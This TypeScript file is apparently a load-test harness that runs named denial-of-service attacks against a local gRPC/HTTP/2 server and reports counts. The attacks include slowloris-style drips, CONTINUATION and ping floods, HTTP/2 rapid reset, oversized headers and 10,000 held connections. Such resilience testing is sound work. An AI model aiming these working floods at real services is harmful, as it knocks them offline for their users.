/**
 * Strangers and bad callers in a process of their own, so that they take no time from those who measure:
 *
 *   node load-attacks.ts NAME SECONDS ADDRESS CA [CERT KEY]
 *
 * Prints one JSON line, how often it did what it does, and ends.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect as connectTcp, type Socket } from 'node:net';
import process from 'node:process';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { OpenSessionRequest } from '../../enclave/wire/gen/sealwright/v1/session.ts';
import { METHODS } from '../../enclave/wire/methods.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** RFC 9113 §6: types and flags of frames. */
const TYPE = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const CANCEL = Buffer.of(0, 0, 0, 8);
const NO_BYTES = Buffer.alloc(0);

function frame(type: number, flags: number, stream: number, body: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.byteLength, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** HPACK, literal without indexing and without Huffman coding (RFC 7541 §6.2.2). */
function field(name: string, value: string): Buffer {
  const text = (bytes: string): Buffer => {
    const { length } = bytes;
    const head = [Math.min(length, 127)];
    for (let rest = length - 127; length >= 127; rest >>>= 7) {
      head.push(rest > 127 ? (rest & 0x7f) | 0x80 : rest);
      if (rest <= 127) break;
    }
    return Buffer.concat([Buffer.from(head), Buffer.from(bytes)]);
  };
  return Buffer.concat([Buffer.of(0), text(name), text(value)]);
}

function callOf(path: string): Buffer {
  return Buffer.concat([
    field(':method', 'POST'),
    field(':scheme', 'https'),
    field(':path', path),
    field(':authority', 'localhost'),
    field('content-type', 'application/grpc'),
    field('te', 'trailers'),
  ]);
}

const CALL = callOf(METHODS.sign);
const OPENING = callOf(METHODS.openSession);
const RECORD_STREAM = callOf(METHODS.streamSession);

/** An Open of suite 1 that names evidence of nobody: with gRPC's prefix. */
const GARBAGE_OPEN = (() => {
  const lengthPrefixed = (length: number): Buffer => {
    const out = randomBytes(4 + length);
    out.writeUInt32BE(length);
    return out;
  };
  const open = Buffer.concat([
    Buffer.of(1, 0, 1),
    randomBytes(32),
    lengthPrefixed(32),
    lengthPrefixed(64),
  ]);
  const message = OpenSessionRequest.encode({ open }).finish();
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(message.byteLength, 1);
  return Buffer.concat([prefix, message]);
})();
/** Of one connection. */
const IDLE_STREAMS = 32;

const [name = '', seconds = '0', address = '', ca = '', cert, key] = process.argv.slice(2);
const end = Date.now() + Number(seconds) * 1000;
const port = Number(address.slice(address.lastIndexOf(':') + 1));
const tlsFiles = {
  ca: readFileSync(ca),
  ...(cert === undefined || key === undefined
    ? {}
    : { cert: readFileSync(cert), key: readFileSync(key) }),
};
let done = 0;
let failed = 0;
/** On a machine under load the time may be over before anything was done. */
const LEAST = 50;
const PATIENCE_MS = 20_000;
const over = (): boolean => Date.now() >= end && (done >= LEAST || Date.now() >= end + PATIENCE_MS);

/** Resolves with a connection, or with undefined when none was made. */
function connection(secure: boolean): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const where = { host: '127.0.0.1', port };
    const socket = secure
      ? connectTls({ ...where, ...tlsFiles, servername: 'localhost', ALPNProtocols: ['h2'] })
      : connectTcp(where);
    socket.once(secure ? 'secureConnect' : 'connect', () => {
      done += 1;
      resolve(socket);
    });
    socket.once('error', () => {
      failed += 1;
      resolve(undefined);
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      resolve(undefined);
    });
    socket.resume();
  });
}

async function h2(): Promise<Socket | undefined> {
  const socket = await connection(true);
  socket?.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0, NO_BYTES)]));
  return socket;
}

/** `count` connections at a time that each send `bytes` one by one, and begin again when they are closed. */
async function drips(
  count: number,
  open: () => Promise<Socket | undefined>,
  bytes: Uint8Array,
): Promise<void> {
  await many(count, async () => {
    const socket = await open();
    for (let at = 0; socket !== undefined && !socket.destroyed && !over(); at += 1) {
      if (at < bytes.byteLength) socket.write(bytes.subarray(at, at + 1));
      await sleep(100);
    }
    socket?.destroy();
  });
}

/** `count` loops side by side, until the time is over. */
async function many(count: number, work: () => Promise<void>): Promise<void> {
  const loop = async (): Promise<void> => {
    while (!over()) {
      await work();
      await sleep(5);
    }
  };
  await Promise.all(Array.from({ length: count }, loop));
}

/** Writes as fast as the other side reads. */
async function floods(count: number, chunk: (turn: number) => Uint8Array): Promise<void> {
  await many(count, async () => {
    const socket = await h2();
    for (let turn = 0; socket !== undefined && !socket.destroyed && !over(); turn += 1) {
      done += 1;
      if (!socket.write(chunk(turn)))
        await Promise.race([
          new Promise((resolve) => socket.once('drain', resolve)),
          new Promise((resolve) => socket.once('close', resolve)),
          sleep(1_000),
        ]);
      else await sleep(0);
    }
    socket?.destroy();
  });
}

/** A HEADERS block of any size, in as many CONTINUATION frames as it needs (RFC 9113 §6.10). */
function headers(stream: number, block: Uint8Array): Buffer {
  const SIZE = 16_384;
  const parts: Buffer[] = [];
  for (let at = 0; at === 0 || at < block.byteLength; at += SIZE) {
    const last = at + SIZE >= block.byteLength;
    const type = at === 0 ? TYPE.headers : TYPE.continuation;
    parts.push(frame(type, last ? END_HEADERS : 0, stream, block.subarray(at, at + SIZE)));
  }
  return Buffer.concat(parts);
}

const odd = (turn: number): number => 2 * turn + 1;
const CLIENT_HELLO_START = Buffer.from('16030102000100', 'hex');
const MANY_FIELDS = Buffer.concat([
  CALL,
  ...Array.from({ length: 5_000 }, (_, i) => field(`x-${String(i)}`, 'v')),
]);
const GIANT_FIELD = Buffer.concat([CALL, field('x-giant-bin', 'A'.repeat(1024 * 1024))]);

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  'slow handshake': () => drips(600, () => connection(false), CLIENT_HELLO_START),
  'slow preface': () => drips(200, () => connection(true), PREFACE),
  'slow headers': () => drips(100, h2, frame(TYPE.headers, 0, 1, CALL)),
  'slow body': () =>
    drips(
      100,
      async () => {
        const socket = await h2();
        socket?.write(headers(1, CALL));
        return socket;
      },
      frame(TYPE.data, 0, 1, Buffer.concat([Buffer.of(0, 0, 1, 0, 0), Buffer.alloc(1000)])),
    ),
  'continuation flood': () =>
    floods(8, (turn) =>
      turn === 0
        ? frame(TYPE.headers, 0, 1, CALL)
        : frame(TYPE.continuation, 0, 1, field('x', 'v'.repeat(16_000))),
    ),
  'empty continuations': () =>
    floods(8, (turn) =>
      turn === 0
        ? frame(TYPE.headers, 0, 1, CALL)
        : Buffer.concat(
            Array.from({ length: 500 }, () => frame(TYPE.continuation, 0, 1, NO_BYTES)),
          ),
    ),
  'many headers': () => floods(4, (turn) => headers(odd(turn), MANY_FIELDS)),
  'giant metadata': () => floods(4, (turn) => headers(odd(turn), GIANT_FIELD)),
  'rapid reset': () =>
    floods(4, (turn) =>
      Buffer.concat(
        Array.from({ length: 50 }, (_, i) => {
          const stream = odd(turn * 50 + i);
          return Buffer.concat([headers(stream, CALL), frame(TYPE.reset, 0, stream, CANCEL)]);
        }),
      ),
    ),
  'ping flood': () =>
    floods(4, () =>
      Buffer.concat(Array.from({ length: 500 }, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)))),
    ),
  'openings of garbage': () =>
    floods(4, (turn) =>
      Buffer.concat(
        Array.from({ length: 50 }, (_, i) => {
          const stream = odd(turn * 50 + i);
          const open = frame(TYPE.data, END_STREAM, stream, GARBAGE_OPEN);
          return Buffer.concat([headers(stream, OPENING), open]);
        }),
      ),
    ),
  'idle record streams': () =>
    many(8, async () => {
      const socket = await h2();
      for (let i = 0; i < IDLE_STREAMS; i += 1) {
        if (socket?.write(headers(odd(i), RECORD_STREAM)) === true) done += 1;
      }
      while (socket !== undefined && !socket.destroyed && !over()) await sleep(50);
      socket?.destroy();
    }),
  '10,000 connections': async () => {
    // All of them, however long it takes, and none is given back. The kernel's queue before `accept` is short.
    for (let left = 10_000; left > 0; left -= 200)
      await Promise.all(Array.from({ length: 200 }, () => connection(false)));
    while (!over()) await sleep(50);
  },
};

const attack = ATTACKS[name];
if (attack === undefined) throw new RangeError(`no attack ${name}`);
await attack();
process.stdout.write(`${JSON.stringify({ done, failed })}\n`);
process.exit(0);
